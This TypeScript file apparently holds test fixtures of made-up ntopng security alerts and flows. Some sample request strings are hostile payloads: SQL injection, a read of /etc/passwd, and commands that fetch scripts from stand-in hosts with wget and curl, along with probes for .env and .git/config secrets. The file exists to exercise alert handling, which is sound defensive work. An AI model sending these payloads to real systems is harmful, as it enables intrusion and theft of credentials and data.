/** What the made-up alerts say: evidence and reasons by alert id, as real ones read. */
export interface SyntheticKind {
  alertId: number
  ports: readonly [number, ...number[]]
  infos: readonly [string, ...string[]]
  reasons: readonly [string, ...string[]]
}

const WEB_PORTS = [80, 8080, 443] as const
const SCANNED_PORTS = [21, 22, 23, 80, 443, 3389, 8080] as const

/** The six kinds of the reference. */
export const SYNTHETIC_KINDS: readonly [SyntheticKind, ...SyntheticKind[]] = [
  {
    alertId: 40,
    ports: WEB_PORTS,
    infos: [
      "/search?q=1' OR '1'='1",
      "/login?user=admin'--",
      '/item?id=1 UNION SELECT username, password FROM users',
      '/item?id=1; DROP TABLE orders',
      "/news?cat=5' AND SLEEP(5)--",
      '/api/v1/orders?sort=(SELECT 1 FROM pg_sleep(5))',
      "/profile?name=x' OR EXISTS(SELECT * FROM accounts)--",
      '/item?id=-1 UNION ALL SELECT NULL, version()',
    ],
    reasons: ['Detected SQL injection in the request', 'SQL keywords in a query parameter'],
  },
  {
    alertId: 41,
    ports: WEB_PORTS,
    infos: [
      '/cgi-bin/status?cmd=;id',
      '/shell?cmd=cat /etc/passwd',
      '/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=wget http://loader.example/x.sh',
      '/index.php?page=php://input',
      '/api/ping?host=127.0.0.1|uname -a',
      '/upload.php?f=$(curl http://drop.example/a)',
      '/actuator/gateway/routes?exec=whoami',
      '/boaform/admin/formLogin?cmd=busybox',
    ],
    reasons: ['Detected malicious code in the request', 'Shell command in a query parameter'],
  },
  {
    alertId: 42,
    ports: WEB_PORTS,
    infos: ['/', '/robots.txt', '/favicon.ico', '/wp-login.php', '/manager/html'],
    reasons: ['Missing user agent', 'Empty user agent', 'User agent of a known scanner'],
  },
  {
    alertId: 61,
    ports: [22],
    infos: [
      'SSH-2.0-OpenSSH_4.3',
      'SSH-2.0-OpenSSH_5.1',
      'SSH-2.0-OpenSSH_6.0',
      'SSH-2.0-OpenSSH_7.2',
      'SSH-2.0-libssh_0.6.1',
    ],
    reasons: ['Obsolete SSH client version'],
  },
  {
    alertId: 68,
    ports: WEB_PORTS,
    infos: [
      '/.env',
      '/.prod.env',
      '/.git/config',
      '/app/.git/config',
      '/backend/.env',
      '/api/.env.bak',
    ],
    reasons: [
      'URL starting with a dot',
      'log4j lookup in a header',
      'Reverse shell in the request',
    ],
  },
  {
    alertId: 79,
    ports: SCANNED_PORTS,
    infos: [
      'Massive scanner detected (probably masscan)',
      'Massive scanner detected (probably zmap)',
      'TCP fingerprint of a port scanner',
      'JA4 fingerprint of a known bot',
    ],
    reasons: ['TCP fingerprint', 'JA4 fingerprint'],
  },
]

/** One further entry of an ntopng flow. */
export interface SyntheticEntry {
  alertId: number
  scriptKey: string
  score: number
  risk?: { id: number; text: string }
}

/** An ntopng flow as it is made up: its entries, the predominant one first. */
export interface SyntheticFlow {
  protocol: string
  port: number
  info: string
  status: number | null
  entries: readonly [SyntheticEntry, ...SyntheticEntry[]]
}

const NUMERIC_HOST: SyntheticEntry = {
  alertId: 43,
  scriptKey: 'ndpi_numeric_ip_host',
  score: 10,
  risk: { id: 12, text: 'Found a numeric host' },
}
const BLACKLISTED: SyntheticEntry = {
  alertId: 9,
  scriptKey: 'blacklisted_client_contact',
  score: 50,
}
const INSECURE: SyntheticEntry = {
  alertId: 38,
  scriptKey: 'remote_to_local_insecure_flow',
  score: 100,
}

/** Flows with several alerts each, among them ids that no reference list knows. */
export const SYNTHETIC_FLOWS: readonly [SyntheticFlow, ...SyntheticFlow[]] = [
  {
    protocol: 'HTTP',
    port: 80,
    info: '/.env',
    status: 200,
    entries: [
      {
        alertId: 68,
        scriptKey: 'ndpi_possible_exploit',
        score: 150,
        risk: { id: 40, text: 'URL starting with dot' },
      },
      NUMERIC_HOST,
      BLACKLISTED,
    ],
  },
  {
    protocol: 'HTTP',
    port: 8080,
    info: '/phpmyadmin/index.php',
    status: 404,
    entries: [INSECURE, NUMERIC_HOST],
  },
  {
    protocol: 'SSH',
    port: 22,
    info: 'SSH-2.0-libssh_0.6.1',
    status: null,
    entries: [INSECURE, BLACKLISTED],
  },
  {
    protocol: 'TLS',
    port: 443,
    info: 'update.test',
    status: null,
    entries: [
      { alertId: 110, scriptKey: 'suspicious_file_transfer', score: 250 },
      {
        alertId: 30,
        scriptKey: 'ndpi_tls_missing_sni',
        score: 50,
        risk: { id: 24, text: 'SNI should always be present' },
      },
    ],
  },
  {
    protocol: 'Unknown',
    port: 21,
    info: '',
    status: null,
    entries: [
      {
        alertId: 79,
        scriptKey: 'ndpi_malicious_fingerprint',
        score: 100,
        risk: { id: 28, text: 'Massive scanner detected (probably masscan)' },
      },
      {
        alertId: 101,
        scriptKey: 'ndpi_probing_attempt',
        score: 50,
        risk: { id: 55, text: 'TCP probing attempt' },
      },
      { alertId: 52, scriptKey: 'ndpi_unsafe_protocol', score: 5 },
    ],
  },
]
